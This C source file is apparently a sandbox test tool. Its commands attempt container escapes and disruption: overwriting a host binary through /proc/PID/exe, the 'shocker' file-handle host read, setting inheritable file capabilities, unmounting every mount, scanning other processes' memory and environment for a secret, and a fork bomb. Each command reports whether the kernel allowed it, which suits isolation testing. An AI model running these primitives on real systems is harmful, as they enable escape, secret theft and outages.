/*
 * attack: what a hostile process does to a box, or to the one who starts it. A static program beside probe, which
 * only looks; every command here tries to change something, and says what the kernel answered as `ok` or `errno=N`.
 *
 * `swap` and `quiet` are used on the host, against the start of a box; the others are the program in one.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/capability.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#ifndef F_GET_SEALS
#define F_GET_SEALS 1034
#endif

static int answer(const char *what, long r) {
	return (r < 0 ? printf("%s: errno=%d\n", what, errno) : printf("%s: ok\n", what)), 0;
}

/* ---- on the host ---- */

/* Exchanges two names until it is killed; a reader of either finds the one or the other, and never none. */
static int swap(const char *one, const char *other) {
	unsigned long times = 0;
	puts("ready");
	for (;; times++)
		if (syscall(SYS_renameat2, AT_FDCWD, one, AT_FDCWD, other, 2 /* RENAME_EXCHANGE */) && !times)
			return answer("swap", -1);
}

/* Starts a program the way a careless service manager does: deaf to its children, and with everything blocked. */
static int quiet(char **command) {
	sigset_t all;
	sigfillset(&all);
	signal(SIGCHLD, SIG_IGN);
	signal(SIGPIPE, SIG_IGN);
	sigprocmask(SIG_SETMASK, &all, NULL);
	execvp(*command, command);
	return 127;
}

/* The user's side of a terminal: the command's session, what it printed, and what waits to be read after its end. */
static int terminal(char **command) {
	int master = open("/dev/ptmx", O_RDWR | O_NOCTTY | O_CLOEXEC), zero = 0, waiting = -1, status = 0;
	char name[64], text[4096];
	if (master < 0 || ioctl(master, TIOCSPTLCK, &zero) || ptsname_r(master, name, sizeof name)) return answer("pty", -1);
	int peer = open(name, O_RDWR | O_NOCTTY | O_CLOEXEC);
	struct termios raw;
	tcgetattr(peer, &raw), cfmakeraw(&raw), tcsetattr(peer, TCSANOW, &raw);
	pid_t child = fork();
	if (child == 0) {
		setsid();
		ioctl(peer, TIOCSCTTY, 0);
		for (int fd = 0; fd < 3; fd++) dup2(peer, fd);
		execvp(*command, command);
		_exit(127);
	}
	for (int ended = 0; !ended;) {
		ended = waitpid(child, &status, WNOHANG) == child;
		struct pollfd poll_master = { .fd = master, .events = POLLIN };
		while (poll(&poll_master, 1, ended ? 50 : 20) > 0 && poll_master.revents & POLLIN) {
			ssize_t n = read(master, text, sizeof text);
			if (n > 0) fwrite(text, 1, (size_t)n, stdout);
			else break;
		}
	}
	ioctl(peer, FIONREAD, &waiting);
	return printf("\nwaiting to be read: %d\n", waiting), WIFEXITED(status) ? WEXITSTATUS(status) : 1;
}

/* Gives a file inheritable capabilities, as in a careless image (CVE-2022-24769). */
static int file_caps(const char *path) {
	struct vfs_cap_data caps = { .magic_etc = VFS_CAP_REVISION_2 | VFS_CAP_FLAGS_EFFECTIVE };
	for (int half = 0; half < 2; half++) caps.data[half].inheritable = ~0u;
	caps.data[1].inheritable = 0x1ff;
	return answer("file-caps", syscall(SYS_setxattr, path, "security.capability", &caps, sizeof caps, 0));
}

static int seals(const char *path) {
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	int found = fd < 0 ? -1 : fcntl(fd, F_GET_SEALS);
	return found < 0 ? answer("seals", -1) : (printf("seals 0x%x\n", (unsigned)found), 0);
}

/* ---- in a box ---- */

static int write_through(int fd, const char *what) {
	char path[64];
	snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
	int out = -1;
	for (int attempt = 0; attempt < 200 && out < 0; attempt++) {
		out = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
		if (out < 0 && errno != ETXTBSY) break;
		if (out < 0) nanosleep(&(struct timespec){ .tv_nsec = 1000000 }, NULL);
	}
	return answer(what, out < 0 ? -1 : write(out, "pwned\n", 6));
}

/* Keeps hold of what each process's /proc/PID/exe was while COMMAND started, and writes to it afterwards. */
static int overwrite(char **command) {
	enum { STARTS = 20, MOST = 8 };
	int held[MOST], count = 0;
	char path[64], link[512], seen[MOST][512];
	pid_t pid = 1;
	for (int start = 0; start < STARTS; start++, pid = -1) {
		if (start > 0 && (pid = fork()) == 0) {
			execv(*command, command);
			_exit(127);
		}
		snprintf(path, sizeof path, "/proc/%d/exe", pid);
		for (int ended = 0; !ended && count < MOST;) {
			ended = start == 0 || waitpid(pid, NULL, WNOHANG) == pid;
			ssize_t n = readlink(path, link, sizeof link - 1);
			if (n <= 0) continue;
			link[n] = 0;
			int known = 0;
			for (int i = 0; i < count; i++) known |= !strcmp(seen[i], link);
			if (known) continue;
			memcpy(seen[count], link, (size_t)n + 1);
			held[count] = open(path, O_PATH | O_CLOEXEC);
			if (held[count] >= 0) count++;
		}
	}
	for (int i = 0; i < count; i++) write_through(held[i], seen[i]);
	return printf("held %d\n", count), 0;
}

/* Reads a host directory through a handle that nobody gave us (the "shocker" of 2014). */
static int handle(const char *path) {
	struct { struct file_handle head; unsigned char bytes[MAX_HANDLE_SZ]; } h = { .head = { .handle_bytes = MAX_HANDLE_SZ } };
	int mount;
	if (name_to_handle_at(AT_FDCWD, path, &h.head, &mount, 0)) return answer("name-to-handle", -1);
	int fd = open(path, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	return answer("open-by-handle", open_by_handle_at(fd, &h.head, O_RDONLY | O_CLOEXEC));
}

/* Takes away every mount it can and adds one, which nobody outside must notice. */
static int wreck_mounts(void) {
	char line[4096], at[4096];
	int gone = 0;
	FILE *f = fopen("/proc/self/mountinfo", "re");
	while (f && fgets(line, sizeof line, f))
		if (sscanf(line, "%*d %*d %*s %*s %4095s", at) == 1 && strcmp(at, "/")) gone += umount2(at, MNT_DETACH) == 0;
	mkdir("/wreck", 0755);
	answer("mount", mount("none", "/wreck", "tmpfs", 0, NULL));
	return printf("unmounted %d\n", gone), 0;
}

static int has(const char *bytes, size_t length, const char *text) {
	return memmem(bytes, length, text, strlen(text)) != NULL;
}

/* Looks for a text everywhere a process of the box can be read. The text comes in reverse, not to find itself. */
static int scan(const char *reversed, const char *pid) {
	static const char *const files[] = { "environ", "cmdline", "maps", "stat", "mountinfo", "auxv" };
	size_t length = strlen(reversed), found = 0;
	char *text = malloc(length + 1), path[64], line[512], *bytes = malloc(1 << 20);
	for (size_t i = 0; i < length; i++) text[i] = reversed[length - 1 - i];
	text[length] = 0;
	for (size_t i = 0; i < sizeof files / sizeof *files; i++) {
		snprintf(path, sizeof path, "/proc/%s/%s", pid, files[i]);
		FILE *f = fopen(path, "re");
		size_t n = f ? fread(bytes, 1, 1 << 20, f) : 0;
		if (has(bytes, n, text)) printf("found in %s\n", files[i]), found++;
	}
	snprintf(path, sizeof path, "/proc/%s/maps", pid);
	FILE *maps = fopen(path, "re");
	snprintf(path, sizeof path, "/proc/%s/mem", pid);
	int mem = open(path, O_RDONLY | O_CLOEXEC);
	answer("mem", mem);
	if (strcmp(pid, "self"))
		for (unsigned long from, to; maps && mem >= 0 && fgets(line, sizeof line, maps);)
			for (sscanf(line, "%lx-%lx", &from, &to); from < to; from += 1 << 20) {
				size_t size = to - from < 1 << 20 ? to - from : 1 << 20;
				ssize_t n = pread(mem, bytes, size, (off_t)from);
				if (n > 0 && has(bytes, (size_t)n, text)) printf("found in memory\n"), found++;
			}
	return printf("found %zu\n", found), 0;
}

/* Two families of processes that never stop to fork, each member ending at once. */
static int forks(void) {
	(void)!fork();
	puts("forking");
	for (;;) {
		pid_t child = fork();
		if (child > 0) _exit(0);
		if (child < 0) while (waitpid(-1, NULL, 0) > 0) {}
	}
}

/* A first process that stays, over processes that are gone before anyone can list them. */
static int forks_below(void) {
	signal(SIGCHLD, SIG_IGN);
	for (int i = 0; i < 3; i++) if (fork() == 0) return forks();
	for (;;) pause();
}

int main(int argc, char **argv) {
	const char *what = argc > 1 ? argv[1] : "";
	setvbuf(stdout, NULL, _IOLBF, 0);
	prctl(PR_SET_NAME, "attack");
	if (!strcmp(what, "swap") && argc == 4) return prctl(PR_SET_PDEATHSIG, SIGKILL), swap(argv[2], argv[3]);
	if (!strcmp(what, "quiet") && argc > 2) return quiet(argv + 2);
	if (!strcmp(what, "terminal") && argc > 2) return terminal(argv + 2);
	if (!strcmp(what, "file-caps") && argc == 3) return file_caps(argv[2]);
	if (!strcmp(what, "seals") && argc == 3) return seals(argv[2]);
	if (!strcmp(what, "overwrite") && argc > 2) return overwrite(argv + 2);
	if (!strcmp(what, "handle") && argc == 3) return handle(argv[2]);
	if (!strcmp(what, "wreck-mounts")) return wreck_mounts();
	if (!strcmp(what, "scan") && argc == 4) return scan(argv[2], argv[3]);
	if (!strcmp(what, "forks")) return forks_below();
	fputs("swap A B | quiet CMD.. | terminal CMD.. | file-caps FILE | seals FILE | overwrite CMD.. | handle DIR |"
	      " wreck-mounts | scan REVERSED PID | forks\n", stderr);
	return 2;
}
